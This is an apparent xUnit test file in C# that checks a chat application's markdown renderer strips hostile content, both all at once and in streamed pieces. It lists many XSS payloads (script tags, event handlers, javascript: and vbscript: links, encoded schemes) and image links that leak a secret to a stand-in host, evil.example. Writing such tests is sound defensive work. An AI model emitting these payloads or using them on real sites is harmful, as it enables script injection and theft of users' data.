using AngleSharp.Dom;
using Convo.Web.Components.Chat.Markdown;

namespace Convo.Tests.Web.Components.Markdown;

public sealed class MarkdownSafetyTests
{
    private static readonly string[] Hostile =
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        "![x\" onerror=\"fetch('/api/convo')](x)",
        "![x\" onerror=\"alert(1)](/x.png)",
        "![secret](https://evil.example/p.png?d=SECRET)",
        "![secret][r]\n\n[r]: https://evil.example/p.png?d=SECRET",
        "![a](//evil.example/x.png) ![b](/\\evil.example/x.png) ![c](data:image/svg+xml;base64,PHN2Zz4=)",
        "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](vbscript:x) [d](data:text/html,<script>alert(1)</script>)",
        "[a](java\nscript:alert(1)) [b](\tjavascript:alert(1)) [c](&#106;avascript:alert(1)) [d](javascript&colon;alert(1))",
        "<javascript:alert(1)> <vbscript:msgbox(1)> <data:text/html,x>",
        "[a]: javascript:alert(1)\n\n[a] [a][] [text][a]",
        "[x](file:///etc/passwd) [y](\\\\host\\share) [z](/account/sign-out) [w](//evil.example)",
        "[t](https://ok.example \"onmouseover=alert(1) \\\" x\")",
        "```\"><script>alert(1)</script>\nx\n```",
        "```x onmouseover=alert(1)\ny\n```",
        "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| [x](javascript:1) | ![](https://evil.example/i.png) |",
        "- [x] <input onfocus=alert(1) autofocus>\n- [ ] <a href=javascript:1>x</a>",
        "> <style>*{background:url(https://evil.example)}</style>",
        "<a href=\"https://ok.example\" ping=\"https://evil.example\" style=\"background:url(https://evil.example)\">x</a>",
        "<https://ok.example/\"onmouseover=alert(1)>",
        "http://ok.example/<script>alert(1)</script> and www.example.org/\"onclick=\"x",
        "`</code><script>alert(1)</script>` ~~<b onclick=x>~~ **<i>**",
        "[1] <button data-cite=\"1\" onclick=\"alert(1)\">x</button>",
    ];

    private readonly MarkdownService _markdown = new();

    public static TheoryData<string> Payloads => [.. Hostile, string.Join("\n\n", Hostile)];

    [Theory]
    [MemberData(nameof(Payloads))]
    public void ToBlocks_HostileText_HasOnlyHarmlessElements(string text) => HarmlessHtml.Require(string.Concat(_markdown.ToBlocks(text, new HashSet<int> { 1 })));

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Snapshot_HostileTextInPieces_IsHarmlessAtEveryStepAndEndsAsTheWhole(string text)
    {
        foreach (var step in (int[])[1, 3, 40])
        {
            var stream = new StreamingMarkdown(_markdown);
            for (var i = 0; i < text.Length; i += step)
            {
                stream.Append(text.Substring(i, Math.Min(step, text.Length - i)));
                HarmlessHtml.Require(string.Concat(stream.Snapshot()));
            }

            Assert.Equal(_markdown.ToBlocks(text), stream.Complete(null));
        }
    }

    [Theory]
    [InlineData("[x](https://example.org/a?b=1&c=2)", "https://example.org/a?b=1&c=2")]
    [InlineData("[x](mailto:person-1@example.org)", "mailto:person-1@example.org")]
    [InlineData("<https://example.org/>", "https://example.org/")]
    [InlineData("see https://example.org/page now", "https://example.org/page")]
    public void ToBlocks_AbsoluteLink_OpensNewTabWithoutReferrer(string text, string address)
    {
        var link = Parse(string.Concat(_markdown.ToBlocks(text))).QuerySelector("a")!;

        Assert.Equal(address, link.GetAttribute("href"));
        Assert.Equal("_blank", link.GetAttribute("target"));
        Assert.Equal("noopener noreferrer", link.GetAttribute("rel"));
    }

    [Fact]
    public void ToBlocks_ImageOfAnotherSite_BecomesLinkThatNamesItself()
    {
        var dom = Parse(string.Concat(_markdown.ToBlocks("![A chart](https://example.org/c.png)")));

        Assert.Empty(dom.QuerySelectorAll("img"));
        Assert.Equal("Image: A chart", dom.QuerySelector("a")!.TextContent);
    }

    [Fact]
    public void ToBlocks_ImageOfThisSite_IsShown() =>
        Assert.Equal("/api/x.png", Parse(string.Concat(_markdown.ToBlocks("![A chart](/api/x.png)"))).QuerySelector("img")!.GetAttribute("src"));

    [Theory]
    [InlineData(30_000, "[")]
    [InlineData(30_000, "> ")]
    [InlineData(30_000, "**a ")]
    [InlineData(30_000, "![[]()")]
    [InlineData(500_000, "a")]
    public void ToBlocks_PathologicalText_IsShownAsText(int count, string piece)
    {
        var text = string.Concat(Enumerable.Repeat(piece, count / piece.Length));

        HarmlessHtml.Require(string.Concat(_markdown.ToBlocks(text)));
    }

    private static IElement Parse(string html) => HarmlessHtml.Parse(html);
}
